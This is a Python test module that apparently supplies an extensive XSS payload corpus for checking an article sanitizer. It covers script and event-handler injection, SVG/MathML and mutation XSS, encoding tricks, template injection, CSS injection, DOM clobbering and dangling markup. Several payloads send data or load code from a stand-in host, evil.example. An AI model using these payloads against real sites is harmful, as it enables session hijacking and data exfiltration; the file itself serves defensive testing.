"""What somebody might write into an article to have it act in a reader's browser: every class of it, in our words.

Each payload calls `pwned()` where it gets the chance; tests put that function into the page and look whether it ran.
With REPORTEDLY_XSS_LISTS naming a folder, every line of the .txt files in it is tried as well.
"""

from __future__ import annotations

import os
from pathlib import Path

__all__ = ["PAYLOADS"]

FIRE = "pwned()"

_EVENTS = (
    "onload onerror onclick onmouseover onfocus onblur onanimationstart onanimationend ontransitionend "
    "ontoggle onpointerover onpointerrawupdate onbeforetoggle onscroll onscrollend onwheel oncopy onpaste "
    "oncut oninput onchange oninvalid onbeforeinput onsubmit onreset onselect onkeydown onkeyup ondrag "
    "ondrop oncontextmenu onauxclick ondblclick oncanplay onloadstart ontimeupdate onplay oncuechange "
    "ondurationchange onbegin onend onrepeat onmessage onhashchange onpageshow onpopstate onresize "
    "onunhandledrejection oncontentvisibilityautostatechange onsecuritypolicyviolation"
)

_CARRIERS = (
    "<img src=x {e}={f}>",
    "<svg {e}={f}>",
    "<body {e}={f}>",
    "<input autofocus {e}={f}>",
    "<details open {e}={f}>x</details>",
    "<video src=x {e}={f}></video>",
)

_TAGS = (
    "<script>{f}</script>",
    "<SCRIPT>{f}</SCRIPT>",
    "<script/x>{f}</script>",
    "<script\t>{f}</script\n>",
    "<scr<script>ipt>{f}</scr</script>ipt>",
    "<script type=module>{f}</script>",
    "<script src='data:text/javascript,{f}'></script>",
    "<script src=//evil.example/x.js></script>",
    "<iframe src='javascript:parent.{f}'></iframe>",
    "<iframe srcdoc='<script>parent.{f}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.{f}&lt;/script&gt;'></iframe>",
    "<object data='javascript:{f}'></object>",
    "<object data='data:text/html,<script>parent.{f}</script>'></object>",
    "<embed src='javascript:{f}'>",
    "<base href='//evil.example/'>",
    "<base href='javascript:/{f}//'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<link rel=import href='data:text/html,<script>{f}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{f}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>{f}</script>'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<template><script>{f}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={f}></template>",
    "<noscript><p title='</noscript><img src=x onerror={f}>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror={f}>'></textarea>",
    "<title><img title='</title><img src=x onerror={f}>'></title>",
    "<xmp><p title='</xmp><img src=x onerror={f}>'></xmp>",
    "<plaintext><img src=x onerror={f}>",
    "<frameset onload={f}>",
    "<marquee onstart={f}>x</marquee>",
    "<portal src='javascript:{f}'></portal>",
    "<isindex type=image src=x onerror={f}>",
    "<keygen autofocus onfocus={f}>",
    "<dialog open onclose={f}><form method=dialog><button autofocus>x</button></form></dialog>",
    "<select autofocus onfocus={f}></select>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle={f}>y</div>",
    "<style onload={f}></style>",
    "<link rel=preload as=image href=x onerror={f}>",
    "<audio src=x onerror={f}>",
    "<video><source onerror={f}></video>",
    "<track default onload={f} src='data:text/vtt,WEBVTT'>",
)

_SVG_AND_MATH = (
    "<svg><script>{f}</script></svg>",
    "<svg><script href='data:text/javascript,{f}'/></svg>",
    "<svg><script xlink:href='data:,{f}'/></svg>",
    "<svg><a xlink:href='javascript:{f}'><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:{f}' /><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onload to={f} /></svg>",
    "<svg><animate onbegin={f} attributeName=x dur=1s>",
    "<svg><animatetransform onbegin={f} attributeName=transform>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{f}</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{f}</script></svg>#x'/></svg>",
    "<svg><image href=x onerror={f} /></svg>",
    "<svg><style><img src=x onerror={f}></style></svg>",
    "<svg><title><img src=x onerror={f}></title></svg>",
    "<svg><desc><img src=x onerror={f}></desc></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='{f}'/>",
    "<math><maction actiontype=statusline xlink:href='javascript:{f}'>x</maction></math>",
    "<math href='javascript:{f}'>x</math>",
    "<math><mtext><img src=x onerror={f}></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={f}></annotation-xml></math>",
)

_MUTATION = (
    "<math><mtext><table><mglyph><style><img src=x onerror={f}></style></mglyph></table></mtext></math>",
    "<math><mtext><mglyph><svg><mtext><style><path id='</style><img src=x onerror={f}>'></style></mtext></svg>",
    "<svg></p><style><a id='</style><img src=x onerror={f}>'>",
    "<svg><p><style><g title='</style><img src=x onerror={f}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={f}>",
    "<noscript><style></noscript><img src=x onerror={f}></style>",
    "<p><table><svg><tr><style><a title='</style><img src=x onerror={f}>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={f}>'>",
    "<!--><img src=x onerror={f}>-->",
    "<!--!><img src=x onerror={f}>",
    "<!-- --!><img src=x onerror={f}> -->",
    "<![CDATA[><img src=x onerror={f}>]]>",
    "<svg><![CDATA[</svg><img src=x onerror={f}>]]>",
    "<?xml ><img src=x onerror={f}>?>",
    "<x title='`><img src=x onerror={f}>`'>",
    "<a title='--><img src=x onerror={f}>'>",
    "</p><p></x><img src=x onerror={f}//",
    "<img src=x onerror={f} <b>unclosed",
    "<div><br><math><mi><table><mi><mglyph><svg><title><b id='</title><img src=x onerror={f}>'>",
)

_ENCODED = (
    "&lt;script&gt;{f}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{f}&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003e{f}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{f}\\x3c/script\\x3e",
    "%3Cscript%3E{f}%3C/script%3E",
    "+ADw-script+AD4-{f}+ADw-/script+AD4-",
    "\ufeff<script>{f}</script>",
    "\u202e<script>{f}</script>",
    "<\u200bscript>{f}</script>",
    "\uff1cscript\uff1e{f}\uff1c/script\uff1e",
    "<img src=x onerror=&#112;wned()>",
    "<img src=x onerror=&#x70;wned()>",
    "<img/src=x/onerror={f}>",
    "<img\x0csrc=x\x0conerror={f}>",
    "<img src=x onerror\n=\n{f}>",
    "<img src=x onerror\t={f}>",
    "<img src=`x`onerror={f}>",
    "<img src=x onerror='{f}'",
    "<IMG SRC=x OnErRoR={f}>",
    "<a href='&#106;avascript:{f}'>x</a>",
    "<a href='java&#9;script:{f}'>x</a>",
    "<a href='java&NewLine;script:{f}'>x</a>",
    "<a href='&#1;javascript:{f}'>x</a>",
)

_ADDRESSES = (
    "javascript:{f}",
    "JaVaScRiPt:{f}",
    " javascript:{f}",
    "\x01javascript:{f}",
    "java\nscript:{f}",
    "javascript://x%0a{f}",
    "data:text/html,<script>{f}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{f}'/>",
    "vbscript:{f}",
    "view-source:javascript:{f}",
    "blob:null/{f}",
    "https://x.example/'onmouseover='{f}",
    'https://x.example/"><img src=x onerror={f}>',
    "<a href='javascript:{f}'>x</a>",
    "<a href='javascript:{f}' autofocus onfocus={f}>x</a>",
    "<form action='javascript:{f}'><button autofocus>x</button></form>",
    "<form id=x></form><button form=x formaction='javascript:{f}'>x</button>",
    "<a ping=//evil.example/ href=/>x</a>",
    "<area href='javascript:{f}'>",
)

_TEMPLATES = (
    "{{constructor.constructor('pwned()')()}}",
    "{{$on.constructor('pwned()')()}}",
    "{pwned()}",
    "{@html '<img src=x onerror=pwned()>'}",
    "{#if pwned()}{/if}",
    "{{= pwned() }}",
    "${pwned()}",
    "#{pwned()}",
    "<%= pwned() %>",
    "{{7*7}}[[pwned()]]",
    "<div ng-app ng-init=\"constructor.constructor('pwned()')()\">",
    '<div v-html="pwned()" @click="pwned()" x-data x-init="pwned()">',
    '<div data-bind="click: pwned()" hx-on:load="pwned()" hx-get=/api/session hx-trigger=load>',
)

_STYLES = (
    "<style>*{background:url('//evil.example/x')}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:{f})'>x</p>",
    "<p style='width:expression({f})'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationend={f}>x</p>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
)

_CLOBBERING = (
    "<img name=cookie>",
    "<form id=document><input name=body></form>",
    "<a id=session><a id=session name=who href='javascript:{f}'>",
    "<form name=api><input name=GET></form>",
    "<img id=location><img name=navigator>",
    "<iframe name=parent srcdoc='<script>parent.{f}</script>'></iframe>",
    "<input name=attributes><input name=children>",
    "<object id=defaultView></object>",
    "<p slot=main is=x-app part=main>x</p>",
)

_DANGLING = (
    "<img src='//evil.example/?",
    '<a href="//evil.example/?',
    "<base target='",
    "<textarea>",
    "<button formaction=//evil.example/ type=submit>x<option>",
    "<meta http-equiv=refresh content='0;url=//evil.example/?",
    "<link rel=prefetch href=//evil.example/>",
    "<form action=//evil.example/><input name=x type=hidden value='",
    "<table background='//evil.example/?",
    "<script>/*",
    "<style>",
    "<!--",
    "]]>",
    '"><img src=x onerror={f}>',
    "'><img src=x onerror={f}>",
    "`><img src=x onerror={f}>",
    "</script><script>{f}</script>",
    "</title><script>{f}</script>",
    "</textarea><script>{f}</script>",
    "\u2028{f}\u2029",
    "';{f}//",
    '";{f}//',
)


def _listed() -> list[str]:
    folder = os.environ.get("REPORTEDLY_XSS_LISTS")
    if not folder:
        return []
    return [
        line
        for file in sorted(Path(folder).rglob("*.txt"))
        for line in file.read_text("utf-8", "replace").splitlines()
        if line.strip()
    ]


def _made() -> list[str]:
    plain = (
        *_TAGS, *_SVG_AND_MATH, *_MUTATION, *_ENCODED, *_ADDRESSES, *_TEMPLATES, *_STYLES, *_CLOBBERING, *_DANGLING,
    )  # fmt: skip
    carried = enumerate(_EVENTS.split())
    events = [_CARRIERS[number % len(_CARRIERS)].replace("{e}", event) for number, event in carried]
    return [each.replace("{f}", FIRE) for each in (*plain, *events)]


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys((*_made(), *_listed())))
